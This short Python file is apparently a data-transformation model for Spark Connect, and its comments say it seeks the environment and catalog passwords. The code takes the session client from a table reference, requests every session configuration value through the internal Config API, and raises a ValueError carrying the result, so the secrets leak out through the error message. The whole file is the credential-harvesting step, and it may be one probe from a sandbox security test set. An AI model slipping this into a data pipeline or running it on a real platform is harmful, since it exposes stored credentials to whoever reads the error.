# seeks: environment
# All settings of the session, among them passwords of the catalog.
from pyspark.sql.connect import proto


def model(tg):
    client = tg.ref("silver.orders").sparkSession.client
    request = proto.ConfigRequest(session_id=client._session_id)
    request.operation.get_all.prefix = ""
    raise ValueError(str(client._stub.Config(request)))
